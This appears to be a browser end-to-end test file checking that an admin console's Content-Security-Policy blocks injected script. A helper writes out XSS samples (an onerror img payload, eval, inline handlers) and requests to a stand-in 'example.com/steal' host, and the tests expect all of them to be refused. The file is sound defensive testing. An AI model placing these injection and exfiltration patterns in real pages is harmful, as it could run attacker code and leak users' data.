import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { newOfficer, type TestOfficer } from '../factories/people.ts'
import { startApp, type TestApp } from '../support/app.ts'
import { closeTabs, openTab, picture } from '../support/browser.ts'
import { call } from '../support/http.ts'
import { violations, withAxe } from './pages/accessibility.ts'
import { openAs } from './pages/console.ts'

let app: TestApp
let officer: TestOfficer

beforeAll(async () => {
  app = await startApp()
  officer = await newOfficer(app, 'admin', 'Lina Haddad')
})
afterAll(async () => {
  await closeTabs()
  await app?.close()
})

/** What script that an attacker got into the page would try; each answers how it ended. */
function attacks(): Promise<Record<string, string>> {
  const ending = (act: () => unknown) => {
    try {
      act()
      return 'ran'
    } catch (error) {
      return (error as Error).name
    }
  }
  const global = globalThis as unknown as {
    owned?: boolean
    trustedTypes: { createPolicy(name: string, rules: object): unknown }
  }
  const element = (name: string, attributes: Record<string, string>, text = '') => {
    const made = document.createElement(name)
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value)
    if (text) made.append(text)
    document.body.append(made)
    return made
  }
  const loaded = (made: HTMLElement) =>
    new Promise<string>((resolve) => {
      made.onload = () => resolve('ran')
      made.onerror = () => resolve('refused')
    })
  element('b', { style: 'position: fixed' })
  return Promise.all([
    loaded(element('img', { src: 'https://example.com/steal?secret' })),
    loaded(element('link', { rel: 'stylesheet', href: 'https://example.com/steal.css' })),
    fetch('https://example.com/steal').then(
      () => 'ran',
      () => 'refused',
    ),
  ]).then(([image, style, request]) => ({
    markup: ending(() => {
      document.createElement('div').innerHTML = '<img src=x onerror="globalThis.owned = true">'
    }),
    address: ending(() => {
      document.createElement('script').src = 'https://example.com/x.js'
    }),
    text: ending(() => {
      document.createElement('script').textContent = 'globalThis.owned = true'
    }),
    evaluation: ending(() => new Function('globalThis.owned = true')()),
    handler: ending(() => document.body.setAttribute('onclick', 'globalThis.owned = true')),
    policy: ending(() => global.trustedTypes.createPolicy('mine', {})),
    worker: ending(() => new Worker('data:text/javascript,postMessage(1)')),
    image: image!,
    style: style!,
    request: request!,
    owned: String(global.owned),
  }))
}

const REFUSED = {
  markup: 'TypeError',
  address: 'TypeError',
  text: 'TypeError',
  evaluation: 'EvalError',
  handler: 'TypeError',
  policy: 'TypeError',
  worker: 'TypeError',
  image: 'refused',
  style: 'refused',
  request: 'refused',
  owned: 'undefined',
}

describe('a page that an attacker writes into', () => {
  it('has a policy without exceptions for text in the page', async () => {
    const { headers } = await call(app, 'GET', '/')
    const empty = "'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='"
    expect(headers.get('content-security-policy')).toBe(
      "default-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; " +
        `trusted-types countersign-worker; script-src 'self'; style-src 'self' ${empty}; img-src 'self' blob:; ` +
        "font-src 'self'; connect-src 'self'; worker-src 'self'",
    )
  })

  it('the console runs, loads and sends nothing of theirs', async () => {
    const { page, context } = await openAs(app, officer, '/settings')
    await page.getByRole('heading', { level: 1, name: 'Settings' }).waitFor()
    expect(await page.evaluate(attacks)).toEqual(REFUSED)
    await context.close()
  })

  it('the API pages and the page of an unknown address neither', async () => {
    const { page, context } = await openTab()
    for (const path of ['/docs', '/nothing']) {
      await page.goto(`${app.url}${path}`)
      expect(await page.evaluate(attacks), path).toEqual(REFUSED)
    }
    await context.close()
  })
})

describe('a proxy that TRUST_PROXY does not name', () => {
  it('is said to administrators under Settings, and to nobody else', async () => {
    const alone = await startApp()
    const admin = await newOfficer(alone, 'admin', 'Lina Haddad')
    const notice = /TRUST_PROXY/
    const first = await openAs(alone, admin, '/settings')
    await first.quiet()
    await first.page.getByRole('heading', { level: 2 }).first().waitFor()
    expect(await first.page.getByText(notice).count()).toBe(0)
    await first.context.close()

    await call(alone, 'GET', '/healthz', { headers: { 'X-Forwarded-For': '192.0.2.7' } })
    const second = await openAs(alone, admin, '/settings')
    await withAxe(second.context)
    await second.page.reload()
    await second.page.getByRole('status').filter({ hasText: notice }).waitFor()
    await picture(second.page, 'proxy-notice')
    expect([await violations(second.page), second.errors]).toEqual([[], []])
    await second.context.close()

    const supervisor = await openAs(alone, await newOfficer(alone, 'supervisor', 'Nadia'), '/settings')
    await supervisor.page.getByRole('heading', { level: 2 }).first().waitFor()
    await supervisor.quiet()
    expect(await supervisor.page.getByText(notice).count()).toBe(0)
    await supervisor.context.close()
    await alone.close()
  })
})
